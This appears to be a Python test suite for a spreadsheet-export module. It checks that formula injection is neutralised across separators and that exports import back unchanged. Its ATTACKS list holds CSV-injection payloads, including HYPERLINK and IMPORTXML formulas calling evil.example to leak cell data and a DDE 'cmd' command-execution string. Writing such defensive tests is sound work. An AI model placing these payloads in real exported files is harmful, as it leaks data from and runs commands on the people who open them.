"""B8: no cell of an export begins a formula, whatever separator it is opened with, and an import gives the text back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parola.desk.transfer.cells import guarded, unguarded
from parola.desk.transfer.exporting import written
from parola.desk.transfer.table import read

ATTACKS = [
    "=1+1", "+1+1", "@SUM(1)", "\t=1+1", "\n=1+1", " =1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")', "＝1+1", "=1;2", "a,=1+1", "a\t=1+1", 'a"\n=1+1', "+971501234567", "@handle",
    "'=1+1", "''=1", "-2+3", "＋1", "＠x", "a;-1", '"=1"', "\u3000=1", "\r=1", "\ta", "\n",
]  # fmt: skip
RISKY = "=+-@＝＋－＠\t\r\n"
SEPARATORS = [",", ";", "\t"]


def first_sign(cell: str) -> str:
    """What a spreadsheet sees first, which looks past blanks."""
    return cell.lstrip(" \u00a0\u3000")[:1]


@pytest.mark.parametrize("opened", SEPARATORS)
@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_a_formula_whatever_it_is_opened_with(attack: str, separator: str, opened: str) -> None:
    text = written(["name", "note"], [{"name": attack, "note": attack}], separator)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=opened):
        assert [cell for cell in row if cell.strip() and first_sign(cell) in RISKY] == []
    for piece in (
        text.replace(separator, opened).replace('"', "").splitlines()
    ):  # a reader that knows no quotation marks
        assert [cell for cell in piece.split(opened) if cell and first_sign(cell) in "=+-@＝＋－＠"] == []


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_import_of_an_export_gives_the_text_back(attack: str, separator: str) -> None:
    rows = [{"organization": attack, "address": f"x{attack}"}]
    table = read(written(["organization", "address"], rows, separator).encode())
    assert [line.cells for line in table.lines] == rows


@given(st.text(alphabet=st.sampled_from("'=+-@,; \t\r\n\"ax1＝\u3000"), max_size=12) | st.text(max_size=20))
def test_what_is_guarded_can_be_had_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text", ["5", "1000.50", "2026-12-31", "Europe/Madrid", "O'Hara", "'tis", "a-b", "a=b", "x@people.example"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert (guarded(text), unguarded(text)) == (text, text)
